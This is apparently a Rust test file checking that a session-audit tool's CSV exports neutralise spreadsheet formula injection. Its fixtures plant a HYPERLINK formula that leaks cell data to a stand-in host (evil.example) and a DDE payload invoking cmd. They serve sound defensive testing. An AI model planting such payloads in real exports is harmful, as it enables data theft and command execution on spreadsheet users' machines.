//! CSV formula injection (issue 12, item 5): a caller that bypasses the broker chooses
//! its `user_agent`, and broker fields and finding details carry text from requests.
//! Every CSV the tool writes (`sessiontrail query --format csv`, named or ad-hoc, and
//! `sessiontrail findings --format csv`) must hand such text to a spreadsheet as text:
//! a cell starting with `=`, `+`, `-`, `@`, tab or CR gets a leading `'` and is quoted,
//! while numbers and timestamps the tool writes stay as they are.
//!
//! The expected lines are written by hand from the planted values.

mod common;

use sessiontrail_correlate::schema::{findings_schema, sessions_schema};
use sessiontrail_report::{
    FindingsFormat, OutputFormat, export_findings, neutralise_formula, run_named_query, run_query,
    write_batches,
};
use tempfile::TempDir;

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
const DDE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const PLUS: &str = "+1-1";
const MINUS_WITH_SEPARATORS: &str = "-2+3,\"x\"\n=1";
const TAB: &str = "\t=1+1";
const CR: &str = "\r=1+1";
const BROKER: &str = "arn:aws:sts::111122223333:assumed-role/ssm-session-broker/broker-lambda";

type Row = common::TextRow<String>;

fn row(pairs: &[(&'static str, &str)]) -> Row {
    pairs.iter().map(|&(c, v)| (c, v.to_string())).collect()
}

/// Two unattributed sessions: one whose text fields are all hostile, one ordinary.
fn dataset() -> TempDir {
    let dir = tempfile::tempdir().unwrap();
    let base = [
        ("status", "unattributed"),
        ("account_id", "111122223333"),
        ("region", "eu-west-1"),
        ("via_broker", "true"),
        ("cloudtrail_principal_arn", BROKER),
    ];
    let mut hostile = row(&base);
    hostile.extend(row(&[
        ("start_time", "2026-02-01T09:00:00Z"),
        ("session_id", HYPERLINK),
        ("target", PLUS),
        ("document_name", DDE),
        ("cloudtrail_event_id", CR),
        ("source_ip", TAB),
        ("user_agent", MINUS_WITH_SEPARATORS),
    ]));
    let mut ordinary = row(&base);
    ordinary.extend(row(&[
        ("start_time", "2026-02-01T10:00:00.250Z"),
        ("end_time", "2026-02-01T10:30:00Z"),
        ("session_id", "broker-0u2"),
        ("target", "i-0abc"),
        ("document_name", "SSMRunAs-Admin-Session"),
        ("cloudtrail_event_id", "ev-2"),
        ("source_ip", "203.0.113.5"),
        ("user_agent", "aws-cli/2.15.0 Python/3.11.6"),
    ]));
    common::write_partitioned(
        dir.path(),
        "sessions",
        &sessions_schema(),
        "start_time",
        &[hostile, ordinary],
        10,
    );
    let finding = row(&[
        ("finding_id", HYPERLINK),
        ("rule", "unattributed_session"),
        ("severity", "critical"),
        ("session_id", HYPERLINK),
        ("event_time", "2026-02-01T09:00:00Z"),
        ("account_id", "111122223333"),
        ("region", "eu-west-1"),
        ("target", PLUS),
        ("principal_arn", BROKER),
        ("permission_set", DDE),
        ("detail", MINUS_WITH_SEPARATORS),
        ("evidence", r#"{"user_agent":"=1+1"}"#),
        ("resolved_time", "2026-02-20T00:00:00Z"),
        ("resolution", TAB),
    ]);
    common::write_partitioned(
        dir.path(),
        "findings",
        &findings_schema(),
        "event_time",
        &[finding],
        10,
    );
    dir
}

fn csv_of(batches: &[datafusion::arrow::array::RecordBatch]) -> String {
    let mut out = Vec::new();
    write_batches(batches, OutputFormat::Csv, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// The fields of each record of an RFC 4180 `text` (quoted fields may hold `,`, `""`
/// and line breaks); panics on anything else, such as a stray quote.
fn parse_rfc4180(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut chars = text.chars().peekable();
    loop {
        let mut field = String::new();
        if chars.peek() == Some(&'"') {
            chars.next();
            loop {
                match chars.next().expect("a quoted field is closed") {
                    '"' if chars.peek() == Some(&'"') => {
                        chars.next();
                        field.push('"');
                    }
                    '"' => break,
                    c => field.push(c),
                }
            }
        } else {
            while let Some(&c) = chars.peek() {
                if c == ',' || c == '\n' {
                    break;
                }
                assert!(c != '"' && c != '\r', "unquoted field holds {c:?}");
                field.push(c);
                chars.next();
            }
        }
        record.push(field);
        match chars.next() {
            Some(',') => {}
            Some('\n') => {
                records.push(std::mem::take(&mut record));
                if chars.peek().is_none() {
                    return records;
                }
            }
            None => panic!("the last record has no line end"),
            Some(c) => panic!("{c:?} after a field"),
        }
    }
}

#[tokio::test]
async fn the_named_query_neutralises_every_hostile_field() {
    let data = dataset();
    let batches = run_named_query(data.path(), "unattributed").await.unwrap();
    let csv = csv_of(&batches);
    // start_time, session_id, account_id, region, target, document_name,
    // cloudtrail_event_id, cloudtrail_principal_arn, source_ip, user_agent, end_time
    let expected = concat!(
        "start_time,session_id,account_id,region,target,document_name,cloudtrail_event_id,",
        "cloudtrail_principal_arn,source_ip,user_agent,end_time\n",
        "2026-02-01T09:00:00Z,",
        "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",",
        "111122223333,eu-west-1,",
        "\"'+1-1\",",
        "\"'@SUM(1+1)*cmd|' /C calc'!A0\",",
        "\"'\r=1+1\",",
        "arn:aws:sts::111122223333:assumed-role/ssm-session-broker/broker-lambda,",
        "\"'\t=1+1\",",
        "\"'-2+3,\"\"x\"\"\n=1\",",
        "\n",
        "2026-02-01T10:00:00.250Z,broker-0u2,111122223333,eu-west-1,i-0abc,",
        "SSMRunAs-Admin-Session,ev-2,",
        "arn:aws:sts::111122223333:assumed-role/ssm-session-broker/broker-lambda,",
        "203.0.113.5,aws-cli/2.15.0 Python/3.11.6,2026-02-01T10:30:00Z\n",
    );
    assert_eq!(csv, expected);
    // Still RFC 4180: it parses back to the planted values behind their `'`.
    let records = parse_rfc4180(&csv);
    assert_eq!(records.len(), 3);
    assert!(records.iter().all(|record| record.len() == 11));
    let hostile = &records[1];
    assert_eq!(hostile[1], format!("'{HYPERLINK}"));
    assert_eq!(hostile[4], format!("'{PLUS}"));
    assert_eq!(hostile[5], format!("'{DDE}"));
    assert_eq!(hostile[6], format!("'{CR}"));
    assert_eq!(hostile[8], format!("'{TAB}"));
    assert_eq!(hostile[9], format!("'{MINUS_WITH_SEPARATORS}"));
    assert_eq!(hostile[10], "");
    // No cell of the file starts a formula any more.
    for record in &records {
        for cell in record {
            assert_eq!(neutralise_formula(cell), cell.as_str(), "{cell:?}");
        }
    }
}

#[tokio::test]
async fn ad_hoc_sql_numbers_and_times_stay_as_they_are_text_does_not() {
    let data = dataset();
    let sql = "SELECT user_agent, -3 AS delta, CAST(-1.5 AS DOUBLE) AS ratio, \
               start_time, '-7' AS text_number, \
               CAST(-EXTRACT(HOUR FROM start_time) AS BIGINT) AS minus_hour, session_id \
               FROM sessions ORDER BY start_time";
    let csv = csv_of(&run_query(data.path(), sql).await.unwrap());
    assert_eq!(
        csv,
        concat!(
            "user_agent,delta,ratio,start_time,text_number,minus_hour,session_id\n",
            // Hostile text first and last; numbers, negative ones too, and times as is;
            // a number SQL gives as text is text.
            "\"'-2+3,\"\"x\"\"\n=1\",-3,-1.5,2026-02-01T09:00:00Z,\"'-7\",-9,",
            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\"\n",
            "aws-cli/2.15.0 Python/3.11.6,-3,-1.5,2026-02-01T10:00:00.250Z,\"'-7\",",
            "-10,broker-0u2\n",
        )
    );
}

#[tokio::test]
async fn the_findings_csv_export_neutralises_first_middle_and_last_columns() {
    let data = dataset();
    let mut out = Vec::new();
    let written = export_findings(data.path(), FindingsFormat::Csv, &mut out)
        .await
        .unwrap();
    assert_eq!(written, 1);
    let csv = String::from_utf8(out).unwrap();
    assert_eq!(
        csv,
        concat!(
            "finding_id,rule,severity,session_id,event_time,account_id,region,target,",
            "principal_arn,permission_set,detail,evidence,resolved_time,resolution\n",
            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",",
            "unattributed_session,critical,",
            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",",
            "2026-02-01T09:00:00Z,111122223333,eu-west-1,\"'+1-1\",",
            "arn:aws:sts::111122223333:assumed-role/ssm-session-broker/broker-lambda,",
            "\"'@SUM(1+1)*cmd|' /C calc'!A0\",",
            "\"'-2+3,\"\"x\"\"\n=1\",",
            // JSON evidence starts with `{`: only quoted for its `"`, not prefixed.
            "\"{\"\"user_agent\"\":\"\"=1+1\"\"}\",",
            "2026-02-20T00:00:00Z,",
            "\"'\t=1+1\"\n",
        )
    );
    let records = parse_rfc4180(&csv);
    assert_eq!(records.len(), 2);
    assert_eq!(records[1].len(), 14);
    assert_eq!(records[1][13], format!("'{TAB}"));
}

#[tokio::test]
async fn the_table_and_json_formats_are_not_csv_and_keep_the_values() {
    // JSON lines are data for programs: the exact value, no `'`.
    let data = dataset();
    let batches = run_named_query(data.path(), "unattributed").await.unwrap();
    let mut out = Vec::new();
    write_batches(&batches, OutputFormat::Json, &mut out).unwrap();
    let first: serde_json::Value =
        serde_json::from_str(String::from_utf8(out).unwrap().lines().next().unwrap()).unwrap();
    assert_eq!(first["session_id"], HYPERLINK);
    assert_eq!(first["user_agent"], MINUS_WITH_SEPARATORS);
}

#[test]
fn the_one_function_on_each_trigger() {
    // The one function both CSV writers use, on each trigger.
    for (value, expected) in [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t1", "'\t1"),
        ("\r1", "'\r1"),
        ("1=1", "1=1"),
        ("a@b", "a@b"),
    ] {
        assert_eq!(neutralise_formula(value), expected);
    }
}
